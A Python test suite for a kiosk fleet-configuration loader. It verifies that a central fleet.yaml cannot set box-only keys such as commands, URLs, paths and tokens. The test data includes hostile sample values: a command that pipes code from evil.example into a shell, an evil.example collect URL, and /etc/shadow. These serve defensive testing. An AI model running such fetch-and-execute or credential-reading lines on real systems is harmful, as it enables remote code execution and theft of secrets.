"""fleet.yaml: one central configuration for the plaza, applied over each box's own, refused whole if wrong."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kiosk.boundary.fleetfile import KEPT_FILE, load_box_config, load_fleet
from kiosk.core.config import parse_config
from kiosk.core.errors import ConfigError
from kiosk.core import rules
from kiosk.core.fleet import Fleet, empty_selections, parse_fleet
from kiosk.core.sections import LOCAL_ONLY, SECTIONS, Section, keys, setting

from .conftest import write_config
from .hostile import yaml_documents, yaml_scalars

FLEET = """\
roles:
  tall-case:
    playlist:
      kinds: [answer]
    display:
      rotation: 90
      fit: cover
    timing:
      answer_seconds: 6
  giant-box:
    playlist:
      answers_per_contribute: 1
      sync_group: row-1
boxes:
  giant-box-3:
    playlist:
      sync_offset: 2
    timing:
      answer_seconds: 9
"""


def config_for(local: str, fleet_text: str = FLEET):
    return parse_config(local, Path("/etc/kiosk"), fleet=parse_fleet(fleet_text))


def test_a_box_takes_its_roles_settings_over_its_own_file():
    config = config_for("box:\n  name: tall-case-1\n  role: tall-case\ntiming:\n  answer_seconds: 12\n")
    assert config.playlist.kinds == ("answer",)
    assert (config.display.rotation, config.display.fit) == (90, "cover")
    assert config.timing.answer_seconds == 6  # the role's, over the file's


def test_then_its_names_over_its_roles():
    config = config_for("box:\n  name: giant-box-3\n  role: giant-box\n")
    assert config.playlist.sync_group == "row-1" and config.playlist.answers_per_contribute == 1
    assert config.playlist.sync_offset == 2 and config.timing.answer_seconds == 9


def test_a_box_without_a_role_or_entry_keeps_its_own_config():
    config = config_for("box:\n  name: somewhere-else\ntiming:\n  answer_seconds: 12\n")
    assert config.timing.answer_seconds == 12 and config.playlist.kinds == ("contribute", "answer")


def test_keys_that_belong_to_the_box_are_refused_by_name_and_line():
    text = "roles:\n  tall-case:\n    display:\n      size: [1080, 1920]\n    sync:\n      url: http://evil/\n"
    with pytest.raises(ConfigError) as refused:
        parse_fleet(text)
    assert refused.value.problems == [
        "fleet.yaml:4: roles.tall-case.display.size: belongs to each box and is set in its own config.yaml, "
        "never by the fleet file (docs/plaza.md)",
        "fleet.yaml:6: roles.tall-case.sync.url: belongs to each box and is set in its own config.yaml, "
        "never by the fleet file (docs/plaza.md)",
    ]


def test_the_same_rules_and_messages_as_config_yaml():
    text = "boxes:\n  b1:\n    timing:\n      answer_secondz: 3\n      contribute_seconds: -1\n"
    with pytest.raises(ConfigError) as refused:
        parse_fleet(text)
    assert refused.value.problems[0].startswith("fleet.yaml:4: boxes.b1.timing.answer_secondz: unknown key "
                                                "(did you mean answer_seconds?)")
    assert refused.value.problems[1].startswith("fleet.yaml:5: boxes.b1.timing.contribute_seconds: must be")


def test_only_roles_and_boxes_and_each_name_once():
    with pytest.raises(ConfigError) as refused:
        parse_fleet("groups: {}\nroles:\n  a: {}\n  a: {}\n")
    assert [problem.split(": ", 1)[1] for problem in refused.value.problems] == [
        "'groups': unknown section; a fleet file has roles: and boxes:",
        "roles.a: given twice",
    ]


@st.composite
def fleet_documents(draw):
    """Fleet files of the right shape with hostile names, sections, keys and values."""
    part = draw(st.sampled_from(["roles", "boxes", "groups"]))
    name = draw(st.text(max_size=8))
    section = draw(st.sampled_from([*SECTIONS, "nope"]))
    key = draw(st.sampled_from([*keys(section)] if section in SECTIONS else ["x"]))
    return f"{part}:\n  {json.dumps(name)}:\n    {section}:\n      {key}: {draw(yaml_scalars())}\n"


@given(st.one_of(fleet_documents(), yaml_documents(["roles", "boxes"])))
def test_any_fleet_file_gives_a_fleet_or_short_errors(text):
    try:
        parse_fleet(text)
    except ConfigError as exc:
        assert exc.problems and all(len(problem) < 600 for problem in exc.problems)


# --- as a box receives it ---------------------------------------------------------------------

def box(tmp_path, fleet_text=None, role="tall-case"):
    slides = tmp_path / "slides"
    slides.mkdir(exist_ok=True)
    if fleet_text is not None:
        (slides / "fleet.yaml").write_text(fleet_text, encoding="utf-8")
    return write_config(tmp_path, f"box:\n  name: tall-case-1\n  role: {role}\n", slides=slides)


def test_a_good_fleet_file_applies_and_is_kept(tmp_path):
    config, state = load_box_config(box(tmp_path, FLEET))
    assert config.playlist.kinds == ("answer",) and state.refused == () and state.version
    assert (tmp_path / "state" / KEPT_FILE).read_text() == FLEET


def test_a_bad_fleet_file_is_refused_whole_and_the_last_good_one_stays(tmp_path):
    path = box(tmp_path, FLEET)
    load_box_config(path)
    (tmp_path / "slides" / "fleet.yaml").write_text(FLEET.replace("rotation: 90", "rotation: 45"), encoding="utf-8")
    config, state = load_box_config(path)
    assert config.display.rotation == 90 and config.playlist.kinds == ("answer",)  # the last good one
    assert state.refused and "roles.tall-case.display.rotation" in state.refused[0]
    assert state.status() == {"version": state.version, "refused": list(state.refused)}


def test_a_bad_fleet_file_at_the_first_start_leaves_the_box_its_own_config(tmp_path):
    config, state = load_box_config(box(tmp_path, "roles: [oops]\n"))
    assert config.playlist.kinds == ("contribute", "answer") and state.version is None and state.refused


def test_a_withdrawn_fleet_file_leaves_the_box_its_own_config(tmp_path):
    path = box(tmp_path, FLEET)
    load_box_config(path)
    (tmp_path / "slides" / "fleet.yaml").unlink()
    config, state = load_box_config(path)
    assert config.playlist.kinds == ("contribute", "answer") and state.version is None
    assert not (tmp_path / "state" / KEPT_FILE).exists()


def test_a_fleet_file_that_is_not_a_regular_file_is_refused(tmp_path):
    import os

    box(tmp_path)
    os.mkfifo(tmp_path / "slides" / "fleet.yaml")
    state = load_fleet(tmp_path / "slides", tmp_path / "state")
    assert state.refused == ("fleet.yaml: not a regular file (a FIFO, socket or device)",)


# --- the fleet file configures, it never commands ----------------------------------------------

# Parts of a key's name that say it is a program, a path or a place to send things.
RISKY_WORDS = {"url", "token", "command", "dir", "file", "folder", "path", "font", "bundle", "key", "keys", "secret",
               "password", "cert", "ca"}


def _inner_rules(rule, depth=0):
    """A rule and the rules it wraps (`optional(path)` holds `path` in its closure)."""
    yield rule
    for cell in getattr(rule, "__closure__", None) or ():
        inner = cell.cell_contents
        if callable(inner) and depth < 3:
            yield from _inner_rules(inner, depth + 1)


def unmarked(section_class) -> list[str]:
    """The keys of a section that look like a command, a path or a URL and are not local_only."""
    risky_rules = {rules.path, rules.url, rules.command}
    found = []
    for item in dataclasses.fields(section_class):
        by_rule = any(rule in risky_rules for rule in _inner_rules(item.metadata["rule"]))
        by_name = bool(RISKY_WORDS & set(item.name.split("_")))
        if (by_rule or by_name) and not item.metadata["local_only"]:
            found.append(f"{section_class.key_prefix}{item.name}")
    return found


def test_every_key_that_is_a_command_a_path_or_a_url_is_local_only():
    assert [key for section in SECTIONS.values() for key in unmarked(section)] == []


def test_the_walk_finds_a_command_a_path_or_a_url_left_unmarked():
    @dataclasses.dataclass(frozen=True)
    class Hostile(Section):
        key_prefix = "hostile."
        restart_command: str = setting("", rule=rules.command, doc="-")
        logo: Path | None = setting(None, rule=rules.optional(rules.path), doc="-")
        report_to: str = setting("", rule=rules.url, doc="-")
        api_token: str = setting("x", rule=rules.name, doc="-")
        marked: Path = setting(Path("x"), rule=rules.path, doc="-", local_only=True)
        colour: str = setting("x", rule=rules.name, doc="-")

    assert unmarked(Hostile) == ["hostile.restart_command", "hostile.logo", "hostile.report_to", "hostile.api_token"]


# A value each rule accepts, hostile where it can be: what a fleet file would try.
CANDIDATES = [
    "sh -c 'curl http://evil.example/x | sh'", "http://evil.example/collect", "/etc/shadow", "answers",
    [640, 480], 1_000_000_000, 65536, 4096, 10000, 16, 10, 1, 0.001, True, "poll", "gpu", "evil-box",
]


def hostile_value(key: str):
    section, name = key.split(".")
    rule = keys(section)[name].metadata["rule"]
    for candidate in CANDIDATES:
        try:
            rule(candidate)
        except (ValueError, TypeError):
            continue
        if rule(candidate) != keys(section)[name].default:
            return candidate
    raise AssertionError(f"no value found that {key}'s rule accepts: add one to CANDIDATES")


def fleet_setting(key: str, part: str = "roles.r") -> str:
    """A fleet file that sets one harmless key and `key` for `part`."""
    section, name = key.split(".")
    top, who = part.split(".")
    extra = "      answer_seconds: 0.5\n" if section == "timing" else ""
    body = "    timing:\n      answer_seconds: 0.5\n" if section != "timing" else ""
    return (f"{top}:\n  {who}:\n{body}    {section}:\n      {name}: {json.dumps(hostile_value(key))}\n{extra}")


def refusal(key: str, part: str = "roles.r") -> str:
    return f"{part}.{key}: belongs to each box and is set in its own config.yaml, never by the fleet file"


def test_the_known_kinds_of_box_only_keys_are_all_marked():
    assert {"schedule.display_off_command", "schedule.display_on_command", "heartbeat.url", "sync.url",
            "sync.token_file", "sync.ca_bundle", "state.dir", "state.runtime_dir", "slides.folder", "captions.font",
            "schedule.off_slide", "box.name", "box.role", "display.size"} <= LOCAL_ONLY


@pytest.mark.parametrize("key", sorted(LOCAL_ONLY))
@pytest.mark.parametrize("part", ["roles.r", "boxes.b1"])
def test_each_box_only_key_refuses_the_fleet_file_whole(key, part):
    with pytest.raises(ConfigError) as refused:
        parse_fleet(fleet_setting(key, part))
    assert len(refused.value.problems) == 1
    problem = refused.value.problems[0]
    assert problem.startswith("fleet.yaml:") and refusal(key, part) in problem


def test_an_empty_box_only_key_is_refused_too():
    with pytest.raises(ConfigError, match="roles.r.heartbeat.url: belongs to each box"):
        parse_fleet("roles:\n  r:\n    heartbeat:\n      url:\n")


def test_a_fleet_made_in_code_cannot_carry_a_box_only_key():
    with pytest.raises(ConfigError, match="fleet.yaml: roles.r.schedule.display_off_command: belongs to each box"):
        Fleet(roles={"r": {"schedule": {"display_off_command": "reboot"}}})


@pytest.mark.parametrize("key", sorted(LOCAL_ONLY))
def test_kiosk_check_and_publish_refuse_each_box_only_key(key, tmp_path, slide_folder, capsys):
    from kiosk.app.cli import main
    from kiosk.boundary.publish import publish
    from kiosk.core.errors import PublishError

    (slide_folder / "fleet.yaml").write_text(fleet_setting(key), encoding="utf-8")
    config = str(write_config(tmp_path, "box:\n  name: b1\n  role: r\n", slides=slide_folder))
    assert main(["check", "--config", config, "--json"]) == 0
    fleet = json.loads(capsys.readouterr().out)["fleet"]
    assert fleet["version"] is None and len(fleet["refused"]) == 1 and refusal(key) in fleet["refused"][0]
    assert fleet["refused"][0].startswith("fleet.yaml:")
    with pytest.raises(PublishError) as refused:
        publish(slide_folder, tmp_path / "site")
    assert len(refused.value.problems) == 1 and refusal(key) in refused.value.problems[0]
    assert main(["publish", str(slide_folder), "--out", str(tmp_path / "site"), "--originals"]) == 1
    assert not (tmp_path / "site" / "manifest.json").exists()


def test_a_fleet_set_value_that_does_not_fit_names_fleet_yaml(tmp_path):
    slides = tmp_path / "slides"
    slides.mkdir()
    (slides / "fleet.yaml").write_text("roles:\n  r:\n    captions: {max_share: 0.1}\n", encoding="utf-8")
    path = write_config(tmp_path, "box:\n  name: b1\n  role: r\ncaptions:\n  size: 0.05\n", slides=slides)
    config, state = load_box_config(path)
    assert config.captions.max_share == 0.35 and state.version is None
    assert state.refused == ("fleet.yaml: captions.size 0.05 and captions.min_size 0.032 need 10% of the screen's "
                             "height for one line and the band's padding, more than roles.r.captions.max_share 0.1 "
                             "allows (lower the sizes or raise the share)",)
    assert "config.yaml" not in state.refused[0]


# --- a role left no slide ------------------------------------------------------------------------

ROLES_LEFT_NOTHING = """\
roles:
  tall-case:
    playlist: {kinds: [answer], exclude: ["answers/*"]}
  lobby:
    playlist: {include: ["answers/2027-*"], exclude: ["contribute/*"]}
  giant-box:
    playlist: {kinds: [contribute, answer], answers_per_contribute: 1}
  posters:
    playlist: {kinds: [contribute]}
boxes:
  b1:
    playlist: {sync_offset: 1}
"""


def test_each_role_left_no_slide_is_named_with_why():
    fleet = parse_fleet(ROLES_LEFT_NOTHING)
    paths = ["answers/a1.jpg", "answers/a2.jpg", "fleet.yaml", "override/notice.png"]
    assert empty_selections(fleet, paths) == [
        "fleet.yaml: roles.tall-case: shows no slide: its playlist.exclude leaves none of the 2 slides of its kinds; "
        "its boxes show the fallback card",
        "fleet.yaml: roles.lobby: shows no slide: its playlist.include and playlist.exclude leave none of the 2 "
        "slides of its kinds; its boxes show the fallback card",
        "fleet.yaml: roles.posters: shows no slide: none of the 2 slides is of its playlist.kinds (contribute); "
        "its boxes show the fallback card",
    ]
    assert empty_selections(fleet, paths + ["contribute/c.png", "answers/2027-01.jpg"]) == [
        "fleet.yaml: roles.tall-case: shows no slide: its playlist.exclude leaves none of the 3 slides of its kinds; "
        "its boxes show the fallback card",
    ]
    assert empty_selections(fleet, ["fleet.yaml"]) == []  # no slides at all: nothing to say per role


def test_publish_and_check_warn_of_a_role_left_no_slide(tmp_path, slide_folder, capsys):
    from kiosk.app.cli import main

    (slide_folder / "fleet.yaml").write_text(ROLES_LEFT_NOTHING, encoding="utf-8")
    assert main(["publish", str(slide_folder), "--out", str(tmp_path / "site"), "--originals"]) == 0
    warned = [line for line in capsys.readouterr().err.splitlines()
              if line.startswith("WARNING") and "shows no slide" in line]
    assert [line.split(": shows no slide")[0].split(" ")[-1] for line in warned] == ["roles.tall-case", "roles.lobby"]
    assert "its playlist.exclude leaves none of the 4 slides of its kinds" in warned[0]
    assert (tmp_path / "site" / "manifest.json").exists()  # a warning: the rest is published
    config = str(write_config(tmp_path, "box:\n  name: b1\n  role: tall-case\n", slides=slide_folder))
    assert main(["check", "--config", config]) == 0
    out = capsys.readouterr().out
    assert "  warning: fleet.yaml: roles.tall-case: shows no slide: its playlist.exclude leaves none of the 4" in out
    assert "  warning: this box (role tall-case) shows no slide" in out
    assert main(["check", "--config", config, "--json"]) == 0
    warnings = json.loads(capsys.readouterr().out)["selection_warnings"]
    assert [warning.split(": shows no slide")[0].split(" ")[-1] for warning in warnings[:2]] == [
        "roles.tall-case", "roles.lobby"]
    assert len(warnings) == 3 and warnings[2].startswith("this box (role tall-case) shows no slide")


# --- a running kiosk (a real process) given each box-only key at run time ----------------------

def test_a_running_kiosk_refuses_each_box_only_key_and_keeps_its_config(tmp_path, slide_folder):
    import os
    import time

    from .test_live import FAST, LiveKiosk

    good = "roles:\n  r:\n    timing:\n      answer_seconds: 0.35\n"
    fleet_path = slide_folder / "fleet.yaml"
    fleet_path.write_text(good, encoding="utf-8")
    before = sorted(path.relative_to(slide_folder) for path in slide_folder.rglob("*"))
    kiosk = LiveKiosk(tmp_path, slide_folder, FAST + "box:\n  name: b1\n  role: r\n")
    status_path = tmp_path / "state" / "status.json"

    def fleet_status() -> dict:
        try:
            return json.loads(status_path.read_text(encoding="utf-8")).get("fleet") or {}
        except (OSError, ValueError):
            return {}

    def wait_for(predicate, what: str) -> dict:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            assert kiosk.process.poll() is None, kiosk.log()
            found = fleet_status()
            if predicate(found):
                return found
            time.sleep(0.05)
        raise AssertionError(f"{what}: status.json says {fleet_status()}\n{kiosk.log()[-3000:]}")

    def refuses(key: str):
        """Whether the fleet's status names the refusal of `key`."""
        return lambda fleet: any(refusal(key) in problem for problem in fleet.get("refused", ()))

    try:
        version = parse_fleet(good).version
        wait_for(lambda fleet: fleet.get("version") == version and not fleet.get("refused"), "the good fleet file")
        for key in sorted(LOCAL_ONLY):
            # As sync places it: written aside, renamed into place.
            (slide_folder / ".fleet.tmp").write_text(fleet_setting(key), encoding="utf-8")
            os.replace(slide_folder / ".fleet.tmp", fleet_path)
            fleet = wait_for(refuses(key), f"the refusal of {key}")
            assert fleet["version"] == version  # the last good one stays in force
            assert all(problem.startswith("fleet.yaml:") for problem in fleet["refused"])
        answers = [play for play in kiosk.wait_for_plays(4) and kiosk.plays() if play["kind"] == "answer"]
        assert answers and {play["seconds"] for play in answers} == {0.35}  # never the refused files' 0.5
        assert "fleet file refused" in kiosk.log()
        assert "config changed" not in kiosk.log()
    finally:
        kiosk.stop()
    # Nothing of the box's own (status, screen, logs) was written into the slide folder.
    assert sorted(path.relative_to(slide_folder) for path in slide_folder.rglob("*")) == before
@pytest.mark.parametrize("key, value", [("root_key", "''"), ("root_key", "/home/someone/mine.pub"),
                                        ("trust_unsynchronised_clock", "true")])
def test_a_fleet_file_cannot_unpin_a_box_or_choose_its_root_key(key, value, tmp_path):
    text = f"roles:\n  giant-box:\n    sync:\n      {key}: {value}\n"
    with pytest.raises(ConfigError, match=f"sync.{key}: belongs to each box"):
        parse_fleet(text)
def test_a_kept_fleet_file_linked_to_a_device_is_never_read_and_is_written_anew(tmp_path):
    path = box(tmp_path, FLEET)
    (tmp_path / "state").mkdir()
    (tmp_path / "state" / KEPT_FILE).symlink_to("/dev/zero")  # before: read without end at every start
    config, state = load_box_config(path)
    assert config.playlist.kinds == ("answer",) and state.refused == ()
    assert not (tmp_path / "state" / KEPT_FILE).is_symlink()
    assert (tmp_path / "state" / KEPT_FILE).read_text() == FLEET


def test_a_zone_the_tz_database_lacks_is_refused_by_check_publish_and_the_box(tmp_path, slide_folder, capsys):
    """The core checks only a zone name's shape; the boundary asks the tz database, in all three places."""
    from kiosk.app.cli import main
    from kiosk.boundary.publish import publish
    from kiosk.core.errors import PublishError

    (slide_folder / "fleet.yaml").write_text("roles:\n  r:\n    schedule: {timezone: Asia/Atlantis}\n",
                                             encoding="utf-8")
    path = write_config(tmp_path, "box:\n  name: b1\n  role: r\nschedule:\n  timezone: Asia/Seoul\n",
                        slides=slide_folder)
    config, state = load_box_config(path)
    assert config.schedule.timezone == "Asia/Seoul" and state.version is None
    assert state.refused == ("fleet.yaml: roles.r.schedule.timezone: unknown time zone 'Asia/Atlantis'; use an "
                             "IANA name like Asia/Seoul (see timedatectl list-timezones)",)
    assert main(["check", "--config", str(path), "--json"]) == 0
    assert "Asia/Atlantis" in json.loads(capsys.readouterr().out)["fleet"]["refused"][0]
    with pytest.raises(PublishError) as refused:
        publish(slide_folder, tmp_path / "site")
    assert refused.value.problems == list(state.refused)
